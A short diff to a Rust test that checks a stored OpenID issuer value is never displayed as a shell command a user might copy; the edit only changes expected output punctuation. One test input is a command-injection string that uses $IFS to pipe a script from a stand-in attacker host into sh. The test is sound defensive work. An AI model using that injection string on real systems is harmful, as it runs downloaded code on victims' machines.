@@ -429,8 +429,8 @@ fn stored_issuer_never_becomes_a_shell_command_to_copy() {
     let document = site.path().join(".well-known/openid-configuration");
     let text = std::fs::read_to_string(&document).unwrap();
     for (issuer, shown) in [
-        ("https://issuer.example.com;curl$IFS-s${IFS}evil.example|sh", "--issuer URL,"),
-        ("https://other.example.com/a", "--issuer https://other.example.com/a,"),
+        ("https://issuer.example.com;curl$IFS-s${IFS}evil.example|sh", "--issuer URL;"),
+        ("https://other.example.com/a", "--issuer https://other.example.com/a;"),
     ] {
         let changed = text.replace(&format!("\"issuer\":\"{ISSUER}\""), &format!("\"issuer\":\"{issuer}\""));
         std::fs::write(&document, changed).unwrap();
